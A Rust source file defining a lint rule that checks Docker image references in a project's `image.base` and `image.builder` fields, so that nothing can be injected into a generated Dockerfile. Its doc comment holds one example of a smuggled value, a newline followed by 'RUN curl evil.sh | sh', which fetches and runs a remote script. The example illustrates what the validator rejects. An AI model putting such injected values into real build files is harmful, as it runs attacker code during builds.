use crate::diagnostic::Diagnostic;
use crate::load::Value;
use crate::project::Project;

declare_rule! {
    /// ## What it does
    /// Checks `image.base` and `image.builder` are Docker image references:
    /// `[registry/]name[:tag][@sha256:digest]`, lowercase name, no spaces.
    ///
    /// ## Why
    /// They are written into the generated Dockerfile's `FROM` lines; anything else would
    /// break the build or inject instructions into it.
    ///
    /// ## Example
    /// ```yaml
    /// image:
    ///   base: "debian:bookworm-slim\nRUN curl evil.sh | sh"   # not an image reference
    /// ```
    pub static IMAGE_REFERENCE = ("FL0505", "image-reference", Error);
}

pub(super) fn check(project: &Project, out: &mut Vec<Diagnostic>) {
    for endpoint in &project.endpoints {
        let Some(image) = endpoint.node.get("image") else {
            continue;
        };
        for key in ["base", "builder"] {
            let Some(node) = image.get(key) else { continue };
            let Value::Str(reference) = &node.value else {
                continue;
            };
            if !is_reference(reference) {
                out.push(
                    Diagnostic::new(
                        &IMAGE_REFERENCE,
                        node.span,
                        format!("`image.{key}` is not a Docker image reference"),
                    )
                    .label("not an image reference")
                    .help("write `[registry/]name[:tag]`, for example `debian:bookworm-slim`"),
                );
            }
        }
    }
}

fn is_reference(reference: &str) -> bool {
    let (name, digest) = match reference.split_once('@') {
        Some((n, d)) => (n, Some(d)),
        None => (reference, None),
    };
    let digest_ok = digest.is_none_or(|d| {
        d.strip_prefix("sha256:")
            .is_some_and(|h| h.len() == 64 && h.chars().all(|c| c.is_ascii_hexdigit()))
    });
    // The tag follows the last `:` that comes after the last `/` (a registry may have a port).
    let last_slash = name.rfind('/').map_or(0, |i| i + 1);
    let (repository, tag) = match name[last_slash..].rfind(':') {
        Some(i) => (&name[..last_slash + i], Some(&name[last_slash + i + 1..])),
        None => (name, None),
    };
    let repository_ok = !repository.is_empty()
        && !repository.starts_with(['-', '.', '/'])
        && repository
            .chars()
            .all(|c| c.is_ascii_lowercase() || c.is_ascii_digit() || "._-/:".contains(c));
    let tag_ok = tag.is_none_or(|t| {
        !t.is_empty()
            && t.len() <= 128
            && t.chars()
                .all(|c| c.is_ascii_alphanumeric() || "._-".contains(c))
    });
    repository_ok && tag_ok && digest_ok
}
